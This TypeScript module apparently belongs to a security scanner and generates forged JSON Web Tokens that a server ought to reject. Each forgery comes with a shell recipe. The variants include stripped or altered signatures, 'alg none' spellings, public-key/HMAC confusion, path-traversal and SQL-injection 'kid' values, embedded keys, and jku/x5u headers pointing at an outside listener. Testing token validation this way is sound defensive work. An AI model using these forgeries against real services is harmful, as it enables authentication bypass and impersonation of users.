/** Makes tokens that a server has to refuse (RFC 8725): each differs from a good one in the one thing that it has to look at. */
import {
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  type JsonWebKey,
  type KeyObject,
  sign as signWith,
} from 'node:crypto'
import type { Jwt } from '../../../../page/jwt.ts'

export interface Forged {
  readonly variant: string
  readonly text: string
  /** Shell commands that make the same of a token in $TOKEN, into $FORGED. */
  readonly recipe: string
}

type Json = Readonly<Record<string, unknown>>

const part = (value: Json): string => Buffer.from(JSON.stringify(value)).toString('base64url')
const partsOf = ({ text }: Pick<Jwt, 'text'>): readonly [string, string, string] => {
  const [head = '', body = '', signature = ''] = text.split('.')
  return [head, body, signature]
}

const PAYLOAD = 'P=$(printf %s "$TOKEN" | cut -d. -f2)'
const withHeader = (header: Json): string => `H=${part(header)}; ${PAYLOAD}`
const byHmac = (key: Buffer): string =>
  `S=$(printf %s "$H.$P" | openssl dgst -sha256 -mac HMAC -macopt hexkey:${key.toString('hex')} -binary | basenc --base64url -w0 | tr -d =); FORGED="$H.$P.$S"`

const hmac = (input: string, key: Buffer): string => createHmac('sha256', key).update(input).digest('base64url')

/** Whatever the key is, no signature but the own one fits. The last octets are those that a careless comparison leaves out. */
export const alteredSignatures = (token: Jwt): readonly Forged[] => {
  const [head, body, signature] = partsOf(token)
  const octets = Buffer.from(signature, 'base64url')
  const altered = (from: number): string =>
    Buffer.from(octets.map((octet, at) => (at >= from ? octet ^ 0xa5 : octet))).toString('base64url')
  const changed = part({ ...token.claims, probe: 'sonde' })
  const other = 'S=$(printf %s "$TOKEN" | cut -d. -f3)'
  return octets.length < 8
    ? []
    : [
        {
          variant: 'another signature',
          text: `${head}.${body}.${altered(0)}`,
          recipe: `${PAYLOAD}; FORGED="$(printf %s "$TOKEN" | cut -d. -f1).$P.$(openssl rand ${octets.length} | basenc --base64url -w0 | tr -d =)"`,
        },
        {
          variant: 'another last octets of its signature',
          text: `${head}.${body}.${altered(octets.length - 4)}`,
          recipe: `FORGED="\${TOKEN%????????}AAAAAAAA"`,
        },
        {
          variant: 'other claims under the same signature',
          text: `${head}.${changed}.${signature}`,
          recipe: `${other}; FORGED="$(printf %s "$TOKEN" | cut -d. -f1).$(printf %s "$TOKEN" | cut -d. -f2 | tr -- -_ +/ | base64 -d 2>/dev/null | sed 's/}$/,"probe":"sonde"}/' | basenc --base64url -w0 | tr -d =).$S"`,
        },
        { variant: 'no signature', text: `${head}.${body}.`, recipe: `FORGED="\${TOKEN%.*}."` },
      ]
}

/** RFC 7518, 3.6, in the spellings that lists of forbidden words leave out. */
export const unsigned = (token: Jwt): readonly Forged[] =>
  ['none', 'None', 'NONE', 'nOnE'].map((alg) => {
    const header = { ...token.header, alg }
    return {
      variant: `alg ${alg}`,
      text: `${part(header)}.${partsOf(token)[1]}.`,
      recipe: `${withHeader(header)}; FORGED="$H.$P."`,
    }
  })

/** A public key in the place of a secret: every text in which a program may hold it (CVE-2015-9235). */
export const confused = (token: Jwt, keys: readonly JsonWebKey[]): readonly Forged[] =>
  isOfTwoHalves(token.algorithm)
    ? keys
        .flatMap((jwk) => textsOf(jwk))
        .map(({ form, text }) => keyed(token, { alg: 'HS256' }, text, `HS256 with ${form}`))
    : []

/** A private key signs, a public one verifies (RFC 7518, 3.1). */
export const isOfTwoHalves = (algorithm: string): boolean => /^(?:RS|PS|ES)\d/.test(algorithm)

const textsOf = (jwk: JsonWebKey): readonly { readonly form: string; readonly text: Buffer }[] => {
  const key = keyOf(jwk)
  if (key === null) return []
  const spki = String(key.export({ type: 'spki', format: 'pem' }))
  const pkcs1 = key.asymmetricKeyType === 'rsa' ? [String(key.export({ type: 'pkcs1', format: 'pem' }))] : []
  return [spki, ...pkcs1].flatMap((pem) => [
    { form: 'the public key as its secret', text: Buffer.from(pem) },
    { form: 'the public key as its secret, without the last line break', text: Buffer.from(pem.trimEnd()) },
  ])
}

const keyOf = (jwk: JsonWebKey): KeyObject | null => {
  try {
    return createPublicKey({ key: jwk, format: 'jwk' })
  } catch (error) {
    if (error instanceof TypeError || (error instanceof Error && 'code' in error)) return null // It is no key that we know.
    throw error
  }
}

/** What every Linux answers for it, since it was first built. */
const KERNEL = { path: '/proc/sys/kernel/ostype', content: Buffer.from('Linux\n') }

/** Names of keys that lead to a file whose content all know, and to a record that the name itself makes. */
export const namedKeys = (token: Jwt): readonly Forged[] => {
  const up = '../'.repeat(10)
  return [
    [`${up}${KERNEL.path.slice(1)}`, KERNEL.content],
    [KERNEL.path, KERNEL.content],
    [`${up}dev/null`, Buffer.alloc(0)],
    ["sonde' UNION SELECT 'sonde'-- -", Buffer.from('sonde')],
    ["sonde' UNION ALL SELECT 'sonde' FROM dual-- -", Buffer.from('sonde')],
  ].map(([kid, key]) => keyed(token, { alg: 'HS256', kid: String(kid) }, Buffer.from(key ?? ''), `kid ${String(kid)}`))
}

const keyed = (token: Jwt, change: Json, key: Buffer, variant: string, claims: Json = token.claims): Forged => {
  const header = { ...token.header, ...change }
  const input = `${part(header)}.${part(claims)}`
  return { variant, text: `${input}.${hmac(input, key)}`, recipe: `${withHeader(header)}; ${byHmac(key)}` }
}

export interface OwnKey {
  readonly jwk: JsonWebKey
  readonly key: KeyObject
}

export const makeKey = (): OwnKey => {
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
  return { jwk: { ...publicKey.export({ format: 'jwk' }), kid: 'sonde', use: 'sig', alg: 'RS256' }, key: privateKey }
}

const NODE_RECIPE = `FORGED=$(TOKEN="$TOKEN" node -e 'const c=require("crypto"),k=c.generateKeyPairSync("rsa",{modulusLength:2048}),b=v=>Buffer.from(JSON.stringify(v)).toString("base64url"),i=b({alg:"RS256",typ:"JWT",jwk:k.publicKey.export({format:"jwk"})})+"."+process.env.TOKEN.split(".")[1];console.log(i+"."+c.sign("sha256",Buffer.from(i),k.privateKey).toString("base64url"))')`

/** A key that the token itself brings (RFC 7515, 4.1.3). */
export const embedded = (token: Jwt, { jwk, key }: OwnKey): Forged => ({
  variant: 'a key of its own in jwk',
  text: signed(token, { jwk, kid: 'sonde' }, key),
  recipe: NODE_RECIPE,
})

/** Addresses of keys (RFC 7515, 4.1.2 and 4.1.5) that the server would fetch. */
export const addressed = (token: Jwt, name: 'jku' | 'x5u', url: string, { key }: OwnKey): Forged => ({
  variant: `${name} with an address of ours`,
  text: signed(token, { [name]: url, kid: 'sonde' }, key),
  recipe: `${withHeader({ alg: 'RS256', typ: 'JWT', [name]: 'https://listener.example/keys' })}; FORGED="$H.$P.AAAA"`,
})

const signed = (token: Jwt, change: Json, key: KeyObject): string => {
  const { jku: _jku, x5u: _x5u, jwk: _jwk, x5c: _x5c, ...rest } = token.header
  const input = `${part({ ...rest, ...change, alg: 'RS256' })}.${partsOf(token)[1]}`
  return `${input}.${signWith('sha256', Buffer.from(input), key).toString('base64url')}`
}

/** Makes a token with these claims that the server takes; known once one way to forge was proven. */
export type Forger = (claims: Json, variant: string) => Forged

export const forgerBySecret =
  (token: Jwt, secret: string): Forger =>
  (claims, variant) => {
    const digest = { HS384: 'sha384', HS512: 'sha512' }[token.algorithm.toUpperCase()] ?? 'sha256'
    const input = `${partsOf(token)[0]}.${part(claims)}`
    const text = `${input}.${createHmac(digest, secret).update(input).digest('base64url')}`
    return {
      variant,
      text,
      recipe: `H=$(printf %s "$TOKEN" | cut -d. -f1); ${payload(token, claims)}; S=$(printf %s "$H.$P" | openssl dgst -${digest} -mac HMAC -macopt hexkey:${Buffer.from(secret).toString('hex')} -binary | basenc --base64url -w0 | tr -d =); FORGED="$H.$P.$S"`,
    }
  }

/** Of a stranger's own token, with the claims that are other here: what a command says of a person is theirs alone. */
const payload = ({ claims: own }: Jwt, claims: Json): string => {
  const other = Object.fromEntries(Object.entries(claims).filter(([name, value]) => own[name] !== value))
  return `P=$(TOKEN="$TOKEN" node -e 'const b=t=>Buffer.from(t,"base64url"),c=JSON.parse(b(process.env.TOKEN.split(".")[1]));Object.assign(c,${JSON.stringify(other)});console.log(Buffer.from(JSON.stringify(c)).toString("base64url"))')`
}

/** Where a signature is not looked at, or may be left out. */
export const forgerByHead =
  (token: Jwt, head: string, signature: string): Forger =>
  (claims, variant) => ({
    variant,
    text: `${head}.${part(claims)}.${signature}`,
    recipe: `${payload(token, claims)}; FORGED="${head.slice(0, 400)}.$P.${signature === '' ? '' : 'AAAA'}"`,
  })

/** Claims that a server has to refuse, by what it has to look at. */
export const badClaims = (
  { claims }: Jwt,
  now: number,
): readonly { kind: 'expired' | 'audience'; claims: Json; variant: string }[] => {
  const seconds = Math.floor(now / 1_000)
  const foreign = (name: 'aud' | 'iss') =>
    claims[name] === undefined
      ? []
      : [
          {
            kind: 'audience' as const,
            claims: { ...claims, [name]: 'https://another-service.invalid' },
            variant: name === 'aud' ? 'the audience of another service' : 'another issuer',
          },
        ]
  const past = { ...claims, iat: seconds - 172_800, exp: seconds - 86_400 }
  return [{ kind: 'expired', claims: past, variant: 'an end of yesterday' }, ...foreign('aud'), ...foreign('iss')]
}
